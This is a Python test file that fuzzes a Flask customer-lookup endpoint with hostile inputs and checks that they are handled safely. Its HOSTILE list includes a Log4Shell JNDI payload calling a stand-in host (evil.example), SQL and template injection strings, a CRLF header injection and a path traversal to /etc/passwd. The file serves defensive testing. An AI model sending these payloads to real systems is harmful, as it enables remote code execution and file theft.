"""Input that means harm."""

import json
from datetime import timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from index.tantivy_engine import TantivyIndex
from service.settings import ServiceSettings
from tests.service.desk import app_of

HOSTILE = [
    "\x00",
    "a\x00b",
    "\u202elars",
    "[" * 256,
    "(" * 200,
    '"' * 200,
    "name:lars AND identifier:*",
    "lars~99^1000",
    "+lars -hansen",
    "*",
    "/.*/",
    "[a TO z]",
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%00%0d%0aX: y",
    "../../etc/passwd",
    "\ufeff\u200b\u2060",
    "🧑‍🤝‍🧑" * 30,
    "a\u0301" * 128,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "x " * 128,
]
ACCEPTED = {200, 400, 413, 415, 422}
QUICK = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
ANY_TEXT = st.text(st.characters(), max_size=300)
ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANY_TEXT,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(ANY_TEXT, inner, max_size=5),
    max_leaves=10,
)


@pytest.fixture
def client(index: TantivyIndex) -> FlaskClient:
    """A till that waits as long as it takes: on a machine that stands still, a lookup takes over 2 s."""
    return app_of(index, ServiceSettings(deadline=timedelta(minutes=1))).test_client()


@pytest.mark.parametrize("term", HOSTILE)
def test_a_hostile_term_is_only_text(client: FlaskClient, term: str) -> None:
    assert client.get("/customers/lookup", query_string={"search_term": term}).status_code == 200
    assert client.post("/customers/lookup", json={"search_term": term}).status_code == 200
    assert (
        client.get("/customers/lookup", query_string={"search_term": term + " xyzzyq"}).status_code
        in ACCEPTED
    )


NEVER = "Tue, 24 Nov 99999999999 12:00:00 GMT"


@pytest.mark.parametrize(
    "headers",
    [
        {"If-Modified-Since": NEVER},
        {"If-Unmodified-Since": NEVER},
        {"If-Range": NEVER, "Range": "bytes=0-1"},
        {"Range": f"bytes={'9' * 9_000}-"},
        {"If-Match": '"a"'},
        {"If-None-Match": "*"},
    ],
)
def test_what_nobody_may_keep_is_sent_on_no_condition(client: FlaskClient, headers: dict[str, str]) -> None:
    with (
        client.get("/static/lookup.js") as usual,
        client.get("/static/lookup.js", headers=headers) as answer,
    ):
        assert (answer.status_code, answer.data) == (200, usual.data)


def test_query_syntax_finds_nobody(client: FlaskClient) -> None:
    for term in ("*", "name:*", "* OR *", '"', "identifier:[* TO *]"):
        assert client.get("/customers/lookup", query_string={"search_term": term}).json == []


@QUICK
@given(term=ANY_TEXT)
def test_any_text_is_a_term(client: FlaskClient, term: str) -> None:
    body = json.dumps({"search_term": term})
    answer = client.post("/customers/lookup", data=body, content_type="application/json")
    assert answer.status_code == (200 if len(term) <= 256 else 422)


@QUICK
@given(body=ANY_JSON, term=ANY_JSON)
def test_any_json_is_answered(client: FlaskClient, body: Any, term: Any) -> None:
    for sent in (body, {"search_term": term, "limit": body, "currency_code": term}):
        answer = client.post("/customers/lookup", data=json.dumps(sent), content_type="application/json")
        assert answer.status_code in ACCEPTED


@QUICK
@given(query=st.binary(max_size=200), body=st.binary(max_size=200))
def test_any_bytes_are_answered(client: FlaskClient, query: bytes, body: bytes) -> None:
    environ = {"QUERY_STRING": query.decode("latin-1")}
    assert client.get("/customers/lookup", environ_overrides=environ).status_code in ACCEPTED
    answer = client.post("/customers/lookup", data=body, content_type="application/json")
    assert answer.status_code in ACCEPTED


@QUICK
@given(path=st.binary(max_size=60))
def test_any_path_is_answered(client: FlaskClient, path: bytes) -> None:
    environ = {"PATH_INFO": "/customers/" + path.decode("latin-1")}
    assert client.get("/customers/", environ_overrides=environ).status_code in {200, 404, 422}


@pytest.mark.parametrize(
    ("body", "content_type", "status"),
    [
        (b"[" * 10_000, "application/json", 400),
        (b'{"a":' * 3000, "application/json", 400),
        (b'{"search_term": "a", "limit": ' + b"9" * 10_000 + b"}", "application/json", 400),
        (b'{"search_term": "\xff"}', "application/json", 400),
        (b'{"search_term": "\\ud800"}', "application/json", 200),
        (b'{"search_term": "a", "limit": NaN}', "application/json", 422),
        (b'{"search_term": "a", "limit": 1e999}', "application/json", 422),
        (b"", "application/json", 400),
        (b'{"search_term": "a"}', "text/plain", 415),
        (b"search_term=a", "application/x-www-form-urlencoded", 415),
        (b'{"search_term": "a"}', "multipart/form-data; boundary=x", 415),
        (b'{"search_term": "a"}', "application/json; charset=nonsense", 200),
        (b"x" * 16_385, "application/json", 413),
    ],
)
def test_hostile_bodies(client: FlaskClient, body: bytes, content_type: str, status: int) -> None:
    answer = client.post("/customers/lookup", data=body, content_type=content_type)
    assert answer.status_code == status


def test_a_parameter_given_twice_is_refused(client: FlaskClient) -> None:
    answer = client.get("/customers/lookup?search_term=lars&search_term=anne")
    assert (answer.status_code, (answer.json or {})["errors"][0]["field"]) == (422, "search_term")
